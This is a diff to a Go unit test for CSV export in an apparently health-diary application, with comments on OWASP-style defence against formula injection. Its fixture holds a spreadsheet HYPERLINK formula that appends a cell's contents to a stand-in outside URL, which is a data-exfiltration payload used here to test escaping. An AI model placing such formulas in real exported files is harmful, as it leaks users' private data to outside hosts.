@@ -331,7 +331,9 @@ func ExampleWriteCSV() {
 // formula ("-2 after the stairs" shows as #NAME?, "=HYPERLINK(…)" runs).
 // OWASP's "CSV Injection" guidance: prefix such a cell with a single
 // quote, which spreadsheets show as text. Numbers and codes stay as they
-// are (a negative metric value must still read as a number).
+// are (a negative metric value must still read as a number). Text typed
+// with a leading quote gets one more, so that taking one quote off gives
+// back what was typed.
 func TestCSVFormulaText(t *testing.T) {
 	e := &legwork.DiaryEntry{ID: 5, PersonID: 42, At: time.Date(2024, 3, 3, 8, 0, 0, 0, time.UTC), Severity: intp(3),
 		SensationOther: "+pins and needles", Notes: `=HYPERLINK("http://example.org/?"&A2,"x")`,
